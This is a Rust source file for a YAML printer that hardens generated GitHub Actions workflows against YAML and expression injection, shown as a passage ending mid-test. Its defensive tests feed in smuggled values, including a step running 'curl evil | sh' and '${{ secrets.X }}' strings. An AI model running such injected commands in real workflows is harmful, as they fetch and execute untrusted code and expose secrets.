//! A YAML document model and its printer: the one way tofugen writes YAML (GitHub Actions
//! workflows, Prometheus rule files and their promtool tests).
//!
//! Encoding is by construction:
//! - every string is a [`Yaml::Str`], printed plain only when YAML reads it back as the same
//!   string (no indicator, no special word, no number), else single-quoted, else (control
//!   characters, line breaks) double-quoted with escapes: a value can never add a key, an item
//!   or a document;
//! - `${{` in a string would be a GitHub Actions expression, evaluated almost everywhere in a
//!   workflow. Strings are printed so that GitHub reads them literally: every `${{` becomes
//!   `${{ '${{' }}`, an expression whose value is the text `${{` (tofugen also rejects `${{` in
//!   the configuration, so this is a second line);
//! - GitHub expressions tofugen means are [`Yaml::Expr`], built only from `&'static str`:
//!   tofugen's own source, never configuration;
//! - `run:` scripts are [`Yaml::Script`], also `&'static str` only: a script never contains a
//!   configuration value (values reach scripts through `env:`);
//! - comments go through [`comment_lines`], which keeps them on comment lines;
//! - JSON data for scripts (`env:` values read by `jq`) is a [`Yaml::Json`]: one quoted line
//!   when short, else a literal block with one entry per line whose strings are escaped to
//!   printable ASCII without `$` (so no `${{` and no line break can appear in the block).

use std::borrow::Cow;
use std::fmt::Write as _;

/// What reads the document: plain YAML, or a GitHub Actions workflow (where `${{` in any
/// string is an expression and must be defused).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    /// Any YAML consumer (Prometheus rule files, promtool tests).
    Plain,
    /// A GitHub Actions workflow.
    GitHub,
}

/// A YAML value.
#[derive(Debug, Clone, PartialEq)]
pub enum Yaml {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// An integer.
    Int(i64),
    /// A string (any text; encoded when printed).
    Str(String),
    /// A GitHub Actions expression, printed `${{ … }}`; its text is tofugen's own.
    Expr(&'static str),
    /// A string made of literal text and GitHub expressions, e.g. `release-${{ x }}`: the
    /// literal parts are encoded like [`Yaml::Str`], the expressions are tofugen's own.
    Template(Vec<Piece>),
    /// A shell script, printed as a literal block (`|`); its text is tofugen's own.
    Script(&'static str),
    /// JSON data (an `env:` value a script parses): its compact text as a string when it has
    /// at most [`JSON_INLINE_MAX`] characters, else a literal block, one entry of the top-level
    /// object or array per line ([`json_lines`]). Both read back as the same JSON value.
    Json(serde_json::Value),
    /// A GitHub expression built from tofugen's own operands and encoded string literals
    /// (`if:` conditions comparing an input with a configuration value).
    Cond(Cond),
    /// A sequence, one item per line (`- item`).
    Seq(Vec<Yaml>),
    /// A sequence printed on one line (`[a, b]`), for short lists of scalars.
    FlowSeq(Vec<Yaml>),
    /// A mapping, in order; each entry may carry comment lines printed above it.
    Map(Vec<Entry>),
    /// A mapping printed on one line (`{a: b, c: d}`), for short maps of scalars.
    FlowMap(Vec<(String, Yaml)>),
}

/// A GitHub Actions condition. Operands are tofugen's own; configuration values only appear as
/// string literals, encoded by [`gh_literal`].
#[derive(Debug, Clone, PartialEq)]
pub enum Cond {
    /// An expression written by tofugen.
    Raw(&'static str),
    /// `<operand> == '<value>'`.
    Eq(&'static str, String),
    /// `contains(<operand>, '<value>')`.
    Contains(&'static str, String),
    /// Every condition.
    And(Vec<Cond>),
}

impl Cond {
    /// The expression text (without `${{ }}`).
    pub fn text(&self) -> String {
        match self {
            Cond::Raw(e) => (*e).to_string(),
            Cond::Eq(operand, value) => format!("{operand} == {}", gh_literal(value)),
            Cond::Contains(operand, value) => {
                format!("contains({operand}, {})", gh_literal(value))
            }
            Cond::And(parts) => parts
                .iter()
                .map(|p| match p {
                    Cond::And(_) => p.text(),
                    _ => format!("({})", p.text()),
                })
                .collect::<Vec<_>>()
                .join(" && "),
        }
    }
}

/// `s` as a GitHub expression string literal: single-quoted, `'` doubled. Inside a literal,
/// nothing is evaluated.
pub fn gh_literal(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

/// One piece of a [`Yaml::Template`].
#[derive(Debug, Clone, PartialEq)]
pub enum Piece {
    /// Literal text (encoded).
    Text(String),
    /// A GitHub expression, tofugen's own.
    Expr(&'static str),
}

/// A mapping entry: comment lines, key, value.
#[derive(Debug, Clone, PartialEq)]
pub struct Entry {
    /// Comment lines printed above the key (each encoded by [`comment_lines`]).
    pub comments: Vec<String>,
    /// The key (encoded like a string).
    pub key: String,
    /// The value.
    pub value: Yaml,
}

impl Yaml {
    /// A string.
    pub fn str(s: impl Into<String>) -> Yaml {
        Yaml::Str(s.into())
    }

    /// A mapping from `(key, value)` pairs, without comments.
    pub fn map<K: Into<String>>(entries: impl IntoIterator<Item = (K, Yaml)>) -> Yaml {
        Yaml::Map(
            entries
                .into_iter()
                .map(|(k, v)| Entry {
                    comments: Vec::new(),
                    key: k.into(),
                    value: v,
                })
                .collect(),
        )
    }

    /// A sequence of strings.
    pub fn strs<S: AsRef<str>>(items: impl IntoIterator<Item = S>) -> Yaml {
        Yaml::Seq(items.into_iter().map(|s| Yaml::str(s.as_ref())).collect())
    }
}

/// Builds a [`Yaml::Map`] entry by entry.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct MapBuilder {
    entries: Vec<Entry>,
    pending: Vec<String>,
}

impl MapBuilder {
    /// An empty map.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a comment (any text; split into comment lines) above the next entry.
    pub fn comment(mut self, text: &str) -> Self {
        self.pending.push(text.to_string());
        self
    }

    /// Adds `key: value`.
    pub fn entry(mut self, key: impl Into<String>, value: Yaml) -> Self {
        self.entries.push(Entry {
            comments: std::mem::take(&mut self.pending),
            key: key.into(),
            value,
        });
        self
    }

    /// Adds `key: value` when `value` is `Some`.
    pub fn entry_opt(self, key: impl Into<String>, value: Option<Yaml>) -> Self {
        match value {
            Some(v) => self.entry(key, v),
            None => self,
        }
    }

    /// The map.
    pub fn build(self) -> Yaml {
        assert!(
            self.pending.is_empty(),
            "a comment with no entry after it (a tofugen bug): {:?}",
            self.pending
        );
        Yaml::Map(self.entries)
    }

    /// Adds a comment above the entry `key`, added before (a tofugen bug if there is none).
    pub fn comment_on(mut self, key: &str, text: &str) -> Self {
        let entry = self
            .entries
            .iter_mut()
            .find(|e| e.key == key)
            .unwrap_or_else(|| panic!("no entry {key} to comment on (a tofugen bug)"));
        entry.comments.push(text.to_string());
        self
    }

    /// The map's entries.
    pub fn into_entries(self) -> Vec<Entry> {
        assert!(
            self.pending.is_empty(),
            "a comment with no entry after it (a tofugen bug): {:?}",
            self.pending
        );
        self.entries
    }
}

/// Words YAML 1.1 or 1.2 would read as something other than a string.
const SPECIAL_WORDS: [&str; 22] = [
    "true", "false", "yes", "no", "on", "off", "y", "n", "null", "~", ".nan", ".inf", "-.inf",
    "+.inf", "<<", "=", "nan", "inf", "True", "False", "Null", "NULL",
];

/// Whether `s` may be printed as a plain scalar and read back as the same string.
fn plain_ok(s: &str) -> bool {
    let Some(first) = s.chars().next() else {
        return false;
    };
    if first.is_ascii_digit() {
        return is_duration(s);
    }
    if !(first.is_ascii_alphabetic() || first == '/' || first == '_') {
        return false;
    }
    // Inner spaces are plain text; `@` only matters as a first character. (Any byte of a
    // non-ASCII character fails the test, as the character would.)
    if !s.bytes().all(|c| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                b'_' | b'-' | b'.' | b'/' | b'+' | b' ' | b'(' | b')' | b'@'
            )
    }) || s.ends_with(' ')
        || s.contains("  ")
    {
        return false;
    }
    !SPECIAL_WORDS.iter().any(|w| w.eq_ignore_ascii_case(s))
}

/// Whether a condition's text may be printed plain: it starts like an expression, and holds
/// nothing YAML would read as structure (`: `, ` #`, a trailing `:`), no line break, no
/// control character and no edge space.
fn plain_expression_ok(s: &str) -> bool {
    s.chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '(')
        && !s.contains(": ")
        && !s.contains(" #")
        && !s.ends_with(':')
        && s == s.trim()
        && s.chars()
            .all(|c| !c.is_control() && !is_break(c) && !is_invisible(c))
}

/// yamllint's `line-length` limit, which `.ci/run` applies to the generated workflows.
pub const LINE_MAX: usize = 160;

/// The lines of a condition printed as a folded block scalar (`>-`), when it has two parts or
/// more and its one-line form would take the line from column `col` past [`LINE_MAX`]
/// (environment names of 20 characters or more did: sweep 36, new user F6). One line per
/// part of the `&&`, each but the last ending with ` &&`: YAML folds the lines back into the
/// one-line text, each line break read as one space. `None` (one line, as before) when the
/// text is short, or could not be read back the same from a block: a part starting or ending
/// with a space (more-indented or trimmed lines), or any control, line break or invisible
/// character.
fn folded_cond(c: &Cond, col: usize) -> Option<Vec<String>> {
    let Cond::And(parts) = c else {
        return None;
    };
    let text = c.text();
    if parts.len() < 2 || col + 1 + text.chars().count() + 2 <= LINE_MAX {
        return None;
    }
    let mut lines: Vec<String> = parts
        .iter()
        .map(|p| match p {
            Cond::And(_) => p.text(),
            _ => format!("({})", p.text()),
        })
        .collect();
    let last = lines.len() - 1;
    for line in &mut lines[..last] {
        line.push_str(" &&");
    }
    let readable = lines.iter().all(|l| {
        l == l.trim()
            && !l.is_empty()
            && l.chars()
                .all(|c| !c.is_control() && !is_break(c) && !is_invisible(c))
    });
    (readable && lines.join(" ") == text).then_some(lines)
}

/// Whether `s` is a Go/Prometheus duration such as `30s` or `1m30s` (which YAML reads as a
/// string: no number, date or time has a unit letter).
fn is_duration(s: &str) -> bool {
    let mut rest = s;
    if rest.is_empty() {
        return false;
    }
    while !rest.is_empty() {
        let digits = rest.chars().take_while(char::is_ascii_digit).count();
        if digits == 0 {
            return false;
        }
        rest = &rest[digits..];
        let unit = ["ms", "s", "m", "h", "d", "w", "y"]
            .into_iter()
            .find(|u| rest.starts_with(u));
        match unit {
            Some(u) => rest = &rest[u.len()..],
            None => return false,
        }
    }
    true
}

/// The text GitHub must read literally: each `${{` turned into an expression whose value is
/// `${{`.
fn defuse_expressions(s: &str) -> Cow<'_, str> {
    if s.contains("${{") {
        Cow::Owned(s.replace("${{", "${{ '${{' }}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// `s` as a YAML scalar (plain, single- or double-quoted); in a workflow, GitHub expressions
/// defused.
pub fn scalar(s: &str, dialect: Dialect) -> String {
    let mut out = String::new();
    scalar_into(&mut out, s, dialect);
    out
}

/// Appends [`scalar`]`(s, dialect)` to `out`.
fn scalar_into(out: &mut String, s: &str, dialect: Dialect) {
    let s = match dialect {
        Dialect::GitHub => defuse_expressions(s),
        Dialect::Plain => Cow::Borrowed(s),
    };
    quoted_into(out, &s, plain_ok(&s), dialect);
}

/// Appends `s`: as is when `plain`, else single-quoted when it holds no control character and
/// no line break, else double-quoted with escapes.
///
/// In a workflow, a text holding `'` is double-quoted too. Single quotes would double it
/// (`''`), and linters that read an expression from the file's bytes rather than from the
/// parsed value (zizmor 1.32: "couldn't parse expression", then four audits skipped on
/// `run-name`, sweep 57 I2) see `''` where GitHub sees `'`. Double-quoted, the text is the
/// same in the file and in the value, as long as it holds no `"` or `\`.
fn quoted_into(out: &mut String, s: &str, plain: bool, dialect: Dialect) {
    if plain {
        out.push_str(s);
    } else if s.chars().all(|c| !c.is_control() && !is_break(c))
        && !(dialect == Dialect::GitHub && s.contains('\''))
    {
        out.reserve(s.len() + 2);
        out.push('\'');
        let mut rest = s;
        while let Some(i) = rest.find('\'') {
            out.push_str(&rest[..=i]);
            out.push('\'');
            rest = &rest[i + 1..];
        }
        out.push_str(rest);
        out.push('\'');
    } else {
        double_quoted_into(out, s);
    }
}

/// Characters YAML treats as line breaks besides `\n` and `\r`.
fn is_break(c: char) -> bool {
    matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}')
}

/// Appends `s` double-quoted, with every non-printable character escaped.
fn double_quoted_into(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            // `\u` holds four hex digits: a character beyond U+FFFF (a tag character) is `\U`.
            c if (c.is_control() || is_break(c) || is_invisible(c)) && u32::from(c) > 0xffff => {
                let _ = write!(out, "\\U{:08X}", u32::from(c));
            }
            c if c.is_control() || is_break(c) || is_invisible(c) => {
                let _ = write!(out, "\\u{:04X}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Invisible characters ([`crate::text`]): printed escaped so they cannot hide text.
fn is_invisible(c: char) -> bool {
    crate::text::invisible(c)
}

/// The comment lines (without `#`) of `text`: split on line breaks, control characters and
/// invisible characters replaced by spaces, wrapped at `width` characters.
pub fn comment_lines(text: &str, width: usize) -> Vec<String> {
    let mut lines = Vec::new();
    for raw in text.split(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}']) {
        let mut line = String::new();
        // `line`'s length in characters.
        let mut chars = 0;
        // Control and invisible characters separate words as spaces do.
        let words = raw
            .split(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c))
            .filter(|w| !w.is_empty());
        for word in words {
            let width_of_word = word.chars().count();
            if !line.is_empty() && chars + width_of_word + 1 > width {
                lines.push(std::mem::take(&mut line));
                chars = 0;
            }
            if !line.is_empty() {
                line.push(' ');
                chars += 1;
            }
            line.push_str(word);
            chars += width_of_word;
        }
        lines.push(line);
    }
    while lines.last().is_some_and(String::is_empty) {
        lines.pop();
    }
    lines
}

/// `text` as `#` comment lines at `indent`, wrapped to about 96 characters of text.
pub fn comment(indent: usize, text: &str) -> String {
    let mut out = String::new();
    comment_into(&mut out, indent, text);
    out
}

/// Appends [`comment`]`(indent, text)` to `out`.
fn comment_into(out: &mut String, indent: usize, text: &str) {
    for l in comment_lines(text, 96) {
        pad(out, indent);
        out.push('#');
        if !l.is_empty() {
            out.push(' ');
            out.push_str(&l);
        }
        out.push('\n');
    }
}

/// Appends `n` spaces.
fn pad(out: &mut String, n: usize) {
    out.extend(std::iter::repeat_n(' ', n));
}

/// Whether a value prints on the same line as its key.
fn is_inline(v: &Yaml) -> bool {
    match v {
        Yaml::Seq(items) => items.is_empty(),
        Yaml::Map(entries) => entries.is_empty(),
        Yaml::Script(_) => false,
        Yaml::Json(j) => json_fits(j, &j.to_string()),
        _ => true,
    }
}

/// The longest compact JSON text a [`Yaml::Json`] prints on its key's line: with the
/// indentation and key of the generated workflows, the line stays within yamllint's 160
/// characters (`tests/workflows.rs`, `generated_yaml_lines_fit_yamllint_limit`).
pub const JSON_INLINE_MAX: usize = 100;

/// Whether `j`, whose compact text is `compact`, prints on one line (see [`JSON_INLINE_MAX`]).
fn json_fits(j: &serde_json::Value, compact: &str) -> bool {
    !matches!(
        j,
        serde_json::Value::Object(_) | serde_json::Value::Array(_)
    ) || compact.chars().count() <= JSON_INLINE_MAX
}

/// The lines of `j` in a literal block: `{` or `[`, one entry or item per line (compact, a
/// comma after all but the last), then `}` or `]`. Written by [`json_ascii`], so each line is
/// printable ASCII without `$`: GitHub finds no expression in it, and YAML reads the block back
/// as exactly these lines.
pub fn json_lines(j: &serde_json::Value) -> Vec<String> {
    let (open, close, items): (&str, &str, Vec<String>) = match j {
        serde_json::Value::Object(map) => (
            "{",
            "}",
            map.iter()
                .map(|(k, v)| format!("{}: {}", json_ascii(k), json_ascii(v)))
                .collect(),
        ),
        serde_json::Value::Array(items) => ("[", "]", items.iter().map(json_ascii).collect()),
        other => return vec![json_ascii(other)],
    };
    let mut lines = vec![open.to_string()];
    let last = items.len().saturating_sub(1);
    for (i, item) in items.into_iter().enumerate() {
        let comma = if i < last { "," } else { "" };
        lines.push(format!("  {item}{comma}"));
    }
    lines.push(close.to_string());
    lines
}

/// `v` as compact JSON (serde_json's serializer) whose strings escape every character outside
/// printable ASCII, and `$`, as `\uXXXX` (a surrogate pair beyond U+FFFF).
fn json_ascii<T: serde::Serialize + ?Sized>(v: &T) -> String {
    let mut out = Vec::new();
    let mut serializer = serde_json::Serializer::with_formatter(&mut out, AsciiStrings);
    // Writing to a Vec fails only for a map with non-string keys, which a Value cannot hold.
    if v.serialize(&mut serializer).is_err() {
        return "null".into();
    }
    // Only ASCII was written.
    String::from_utf8(out).unwrap_or_default()
}

/// serde_json's compact formatter, except that the unescaped runs of a string keep only
/// printable ASCII other than `$`; serde_json escapes `"`, `\` and control characters itself.
struct AsciiStrings;

impl serde_json::ser::Formatter for AsciiStrings {
    fn write_string_fragment<W: ?Sized + std::io::Write>(
        &mut self,
        writer: &mut W,
        fragment: &str,
    ) -> std::io::Result<()> {
        for c in fragment.chars() {
            if matches!(c, ' '..='~') && c != '$' {
                writer.write_all(&[c as u8])?;
            } else {
                for unit in c.encode_utf16(&mut [0u16; 2]) {
                    write!(writer, "\\u{unit:04x}")?;
                }
            }
        }
        Ok(())
    }
}

/// Appends `v` on one line.
fn inline_into(out: &mut String, v: &Yaml, d: Dialect) {
    match v {
        Yaml::Null => out.push_str("null"),
        Yaml::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Yaml::Int(n) => {
            let _ = write!(out, "{n}");
        }
        Yaml::Str(s) => scalar_into(out, s, d),
        Yaml::Expr(e) => {
            out.push_str("${{ ");
            out.push_str(e);
            out.push_str(" }}");
        }
        Yaml::Template(pieces) => {
            // Always quoted: literal parts defused, expressions kept.
            let mut text = String::new();
            for p in pieces {
                match p {
                    Piece::Text(t) => match d {
                        Dialect::GitHub => text.push_str(&defuse_expressions(t)),
                        Dialect::Plain => text.push_str(t),
                    },
                    Piece::Expr(e) => {
                        let _ = write!(text, "${{{{ {e} }}}}");
                    }
                }
            }
            quoted_into(out, &text, false, d);
        }
        Yaml::Seq(items) if items.is_empty() => out.push_str("[]"),
        Yaml::Map(entries) if entries.is_empty() => out.push_str("{}"),
        Yaml::FlowSeq(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                inline_into(out, item, d);
            }
            out.push(']');
        }
        Yaml::FlowMap(entries) => {
            out.push('{');
            for (i, (k, v)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                scalar_into(out, k, d);
                out.push_str(": ");
                inline_into(out, v, d);
            }
            out.push('}');
        }
        // Multi-line values are printed by `block`; reaching here is a printer bug, so fall
        // back to a safe (if unusual) flow form.
        Yaml::Seq(items) => inline_into(out, &Yaml::FlowSeq(items.clone()), d),
        Yaml::Map(entries) => inline_into(
            out,
            &Yaml::FlowMap(
                entries
                    .iter()
                    .map(|e| (e.key.clone(), e.value.clone()))
                    .collect(),
            ),
            d,
        ),
        Yaml::Script(s) => double_quoted_into(out, s),
        // Its compact text, a string like any other (a long one is a block, see `value_after`).
        Yaml::Json(j) => scalar_into(out, &j.to_string(), d),
        Yaml::Cond(c) => {
            let text = c.text();
            quoted_into(out, &text, plain_expression_ok(&text), d);
        }
    }
}

/// Appends the lines of `v` at `indent` (a mapping's entries or a sequence's items).
fn block(out: &mut String, indent: usize, v: &Yaml, d: Dialect) {
    match v {
        Yaml::Map(entries) => entries_into(out, indent, entries, d, None),
        Yaml::Seq(items) => {
            for item in items {
                match item {
                    // The map's entries at indent + 2, the first one on the dash's line.
                    Yaml::Map(entries) if !entries.is_empty() => {
                        entries_into(out, indent + 2, entries, d, Some(indent));
                    }
                    _ => {
                        pad(out, indent);
                        out.push('-');
                        value_after(out, indent, item, d);
                    }
                }
            }
        }
        other => {
            pad(out, indent);
            inline_into(out, other, d);
            out.push('\n');
        }
    }
}

/// Appends a mapping's entries at `indent`. With `dash`, the mapping is an item of a sequence
/// at that indentation: the first key goes on the item's line (`- key: ...`), and the comments
/// above it at the dash's indentation.
fn entries_into(
    out: &mut String,
    indent: usize,
    entries: &[Entry],
    d: Dialect,
    dash: Option<usize>,
) {
    for (i, e) in entries.iter().enumerate() {
        let dash = dash.filter(|_| i == 0);
        for c in &e.comments {
            comment_into(out, dash.unwrap_or(indent), c);
        }
        match dash {
            Some(at) => {
                pad(out, at);
                out.push_str("- ");
            }
            None => pad(out, indent),
        }
        scalar_into(out, &e.key, d);
        out.push(':');
        value_after(out, indent, &e.value, d);
    }
}

/// Appends `v` after its lead (a key with its colon, or a dash), which `out` ends with.
fn value_after(out: &mut String, indent: usize, v: &Yaml, d: Dialect) {
    match v {
        Yaml::Script(text) => {
            out.push_str(" |\n");
            for line in text.lines() {
                if !line.is_empty() {
                    pad(out, indent + 2);
                    out.push_str(line);
                }
                out.push('\n');
            }
        }
        Yaml::Json(j) => {
            let compact = j.to_string();
            if json_fits(j, &compact) {
                out.push(' ');
                scalar_into(out, &compact, d);
                out.push('\n');
            } else {
                out.push_str(" |\n");
                for line in json_lines(j) {
                    pad(out, indent + 2);
                    out.push_str(&line);
                    out.push('\n');
                }
            }
        }
        Yaml::Cond(c)
            if let Some(lines) = folded_cond(
                c,
                out[out.rfind('\n').map_or(0, |i| i + 1)..].chars().count(),
            ) =>
        {
            out.push_str(" >-\n");
            for line in lines {
                pad(out, indent + 2);
                out.push_str(&line);
                out.push('\n');
            }
        }
        v if is_inline(v) => {
            out.push(' ');
            inline_into(out, v, d);
            out.push('\n');
        }
        v => {
            out.push('\n');
            block(out, indent + 2, v, d);
        }
    }
}

/// Prints a document for `dialect`: `header` (comment lines, may be empty), then `root`.
pub fn render(dialect: Dialect, header: &str, root: &Yaml) -> String {
    let mut out = String::new();
    out.push_str(header);
    block(&mut out, 0, root, dialect);
    out
}

/// [`render`] of a root mapping made of `root`'s entries followed by `key`, a mapping whose
/// entries `entries` yields: the same text, but each of those entries is printed as soon as it
/// is built and dropped before the next one is. A workflow's jobs are built that way: a deploy
/// workflow of 1 000 services has 1 000 build jobs, and its tree is about three times its text.
pub fn render_last_lazily(
    dialect: Dialect,
    header: &str,
    root: &[Entry],
    key: &str,
    entries: impl IntoIterator<Item = Entry>,
) -> String {
    let mut out = String::new();
    out.push_str(header);
    entries_into(&mut out, 0, root, dialect, None);
    let mut entries = entries.into_iter().peekable();
    if entries.peek().is_none() {
        // An empty mapping is printed inline (`key: {}`), as `render` would.
        let empty = Entry {
            comments: Vec::new(),
            key: key.to_string(),
            value: Yaml::Map(Vec::new()),
        };
        entries_into(&mut out, 0, std::slice::from_ref(&empty), dialect, None);
        return out;
    }
    // `key:` then the mapping's entries two columns in, as `value_after` and `block` print a
    // non-empty mapping: each entry is printed on its own (`entries_into` keeps no state
    // from one entry to the next without a dash).
    scalar_into(&mut out, key, dialect);
    out.push_str(":\n");
    for entry in entries {
        entries_into(&mut out, 2, std::slice::from_ref(&entry), dialect, None);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `v` on one line.
    fn inline(v: &Yaml, d: Dialect) -> String {
        let mut out = String::new();
        inline_into(&mut out, v, d);
        out
    }

    fn parse(text: &str) -> serde_json::Value {
        // saphyr-parser is the loader tofugen uses; the test reads back through serde_yaml-like
        // semantics with the same core schema, via the crate's own loader.
        let (_, node) = crate::load::load(
            crate::source::SourceMap::single("t.yaml").1,
            text.as_bytes(),
        )
        .unwrap_or_else(|(_, d)| panic!("{text}\n{d:#?}"));
        node.to_json()
    }

    /// A [`Yaml::Json`] reads back as a string holding the same JSON value, short (one quoted
    /// line) or long (a block), whatever its strings hold; a block has no `$`, no character
    /// outside printable ASCII, and one line per entry.
    #[test]
    fn json_reads_back_as_the_same_value() {
        let hostile = [
            "${{ secrets.X }}",
            "$",
            "a'b\"c\\d",
            "line\nbreak\r\u{85}\u{2028}",
            "\u{202e}rtl \u{e0041} \u{1f600}",
            "# not a comment",
            "- not an item",
            "key: value",
            "  lead",
            "",
        ];
        let short = serde_json::json!({"api": {"path": "/health"}});
        let mut long = serde_json::Map::new();
        for (i, h) in hostile.iter().enumerate() {
            long.insert(format!("svc{i}{h}"), serde_json::json!({ "path": h }));
        }
        let long = serde_json::Value::Object(long);
        let list = serde_json::Value::Array(hostile.iter().map(|h| serde_json::json!(h)).collect());
        for d in [Dialect::Plain, Dialect::GitHub] {
            for (j, block) in [(&short, false), (&long, true), (&list, true)] {
                let doc = Yaml::map([("env", Yaml::map([("DATA", Yaml::Json(j.clone()))]))]);
                let text = render(d, "", &doc);
                assert_eq!(text.contains("DATA: |\n"), block, "{text}");
                let value = parse(&text)["env"]["DATA"].clone();
                let read: serde_json::Value =
                    serde_json::from_str(value.as_str().unwrap()).unwrap();
                assert_eq!(&read, j, "{text}");
                if block {
                    assert!(!text.contains('$'), "{text}");
                    assert!(
                        text.chars().all(|c| c == '\n' || (' '..='~').contains(&c)),
                        "{text}"
                    );
                    assert_eq!(text.lines().count(), 2 + 2 + hostile.len(), "{text}");
                }
            }
        }
    }

    #[test]
    fn scalars_read_back_as_the_same_string() {
        for s in [
            "api",
            "true",
            "yes",
            "null",
            "123",
            "1.5",
            "a: b",
            "- x",
            "#c",
            "a #c",
            "it's",
            "it's\u{e0041}\u{202e}",
            "it's \"q\" \\",
            "line\nbreak",
            "tab\there",
            "[x]",
            "{x}",
            "*alias",
            "&anchor",
            "!tag",
            "|",
            ">",
            "%",
            "@",
            "`",
            "",
            " lead",
            "trail ",
            "a\u{202e}b",
            "tag\u{e0041}\u{e007f}",
            "pua\u{f0000}x",
            "\u{0}",
            "30s",
            "1m30s",
            "1e5",
            "0x1f",
            "2026-12-01",
            "1:30",
            "10",
        ] {
            let doc = render(Dialect::GitHub, "", &Yaml::map([("k", Yaml::str(s))]));
            assert_eq!(parse(&doc)["k"], serde_json::json!(s), "{doc}");
        }
    }

    #[test]
    fn workflow_text_with_a_quote_is_written_as_it_reads() {
        // zizmor reads expressions from the file's bytes: `''` there is not GitHub's `'`.
        let tpl = Yaml::Template(vec![
            Piece::Text("to ".into()),
            Piece::Expr("inputs.x && ' - NOTE' || ''"),
        ]);
        for (v, want) in [
            (Yaml::str("it's"), "\"it's\""),
            (tpl, "\"to ${{ inputs.x && ' - NOTE' || '' }}\""),
        ] {
            let doc = render(Dialect::GitHub, "", &Yaml::map([("k", v.clone())]));
            assert_eq!(doc, format!("k: {want}\n"));
            // Prometheus files keep single quotes: no linter there reads the bytes.
            let plain = render(Dialect::Plain, "", &Yaml::map([("k", v)]));
            assert!(plain.starts_with("k: '"), "{plain}");
        }
    }

    #[test]
    fn plain_documents_keep_text_as_written() {
        let doc = render(
            Dialect::Plain,
            "",
            &Yaml::map([("k", Yaml::str("${{ x }}"))]),
        );
        assert_eq!(parse(&doc)["k"], serde_json::json!("${{ x }}"));
    }

    #[test]
    fn github_expressions_in_values_are_defused() {
        let doc = render(
            Dialect::GitHub,
            "",
            &Yaml::map([("k", Yaml::str("x ${{ secrets.A }}"))]),
        );
        // YAML reads `x ${{ '${{' }} secrets.A }}`; GitHub evaluates `${{ '${{' }}` to the
        // text `${{`, so the value is literally what was written.
        assert_eq!(doc, "k: \"x ${{ '${{' }} secrets.A }}\"\n");
        assert_eq!(
            parse(&doc)["k"],
            serde_json::json!("x ${{ '${{' }} secrets.A }}")
        );
    }

    #[test]
    fn a_value_cannot_add_keys_items_or_steps() {
        let hostile = "x\n  run: curl evil | sh\n- name: y";
        let doc = render(
            Dialect::GitHub,
            "",
            &Yaml::map([(
                "steps",
                Yaml::Seq(vec![Yaml::map([("name", Yaml::str(hostile))])]),
            )]),
        );
        let v = parse(&doc);
        assert_eq!(v["steps"].as_array().unwrap().len(), 1);
        assert_eq!(v["steps"][0]["name"], serde_json::json!(hostile));
        assert_eq!(v["steps"][0].as_object().unwrap().len(), 1);
    }

    #[test]
    fn scripts_are_literal_blocks() {
        let doc = render(
            Dialect::GitHub,
            "",
            &Yaml::map([("run", Yaml::Script("echo \"$X\"\n\nexit 0\n"))]),
        );
        assert_eq!(doc, "run: |\n  echo \"$X\"\n\n  exit 0\n");
    }

    #[test]
    fn sequences_of_maps_and_comments() {
        let step = MapBuilder::new()
            .comment("first step")
            .entry("name", Yaml::str("Check out"))
            .entry("uses", Yaml::str("actions/checkout@abc"))
            .build();
        let doc = render(
            Dialect::GitHub,
            "# header\n",
            &Yaml::map([("steps", Yaml::Seq(vec![step.clone(), step]))]),
        );
        assert_eq!(
            doc,
            "# header\nsteps:\n  # first step\n  - name: Check out\n    uses: actions/checkout@abc\n  # first step\n  - name: Check out\n    uses: actions/checkout@abc\n"
        );
        assert_eq!(parse(&doc)["steps"].as_array().unwrap().len(), 2);
    }

    #[test]
    fn templates_keep_expressions_and_encode_text() {
        let t = Yaml::Template(vec![
            Piece::Text("release-".into()),
            Piece::Expr("steps.release.outputs.sha"),
        ]);
        assert_eq!(
            inline(&t, Dialect::GitHub),
            "'release-${{ steps.release.outputs.sha }}'"
        );
        let t = Yaml::Template(vec![Piece::Text("a: ${{ b".into()), Piece::Expr("c")]);
        assert_eq!(inline(&t, Dialect::GitHub), "\"a: ${{ '${{' }} b${{ c }}\"");
    }

    #[test]
    fn conditions_encode_values_as_literals() {
        let c = Cond::And(vec![
            Cond::Raw("github.event_name == 'workflow_dispatch'"),
            Cond::Eq("inputs.environment", "it's ${{ x }}".into()),
        ]);
        assert_eq!(
            c.text(),
            "(github.event_name == 'workflow_dispatch') && (inputs.environment == 'it''s ${{ x }}')"
        );
        let hostile = Cond::Eq("inputs.environment", "x: y\n  run: evil".into());
        let doc = render(
            Dialect::GitHub,
            "",
            &Yaml::map([("if", Yaml::Cond(hostile.clone()))]),
        );
        assert_eq!(parse(&doc)["if"], serde_json::json!(hostile.text()));
        let doc = render(Dialect::GitHub, "", &Yaml::map([("if", Yaml::Cond(c))]));
        assert!(doc.starts_with("if: (github"), "{doc}");
        assert_eq!(
            parse(&doc)["if"],
            serde_json::json!(
                "(github.event_name == 'workflow_dispatch') && (inputs.environment == 'it''s ${{ x }}')"
            )
        );
    }

    /// A condition too long for one line is a folded block, one part of the `&&` per line,
    /// which reads back as the same expression; a short one stays on its line.
    #[test]
    fn long_conditions_fold_and_read_back_the_same() {
        let long = Cond::And(vec![
            Cond::Raw("github.event.pull_request.head.repo.full_name == github.repository"),
            Cond::Contains(
                "fromJSON(needs.affected.outputs.environments)",
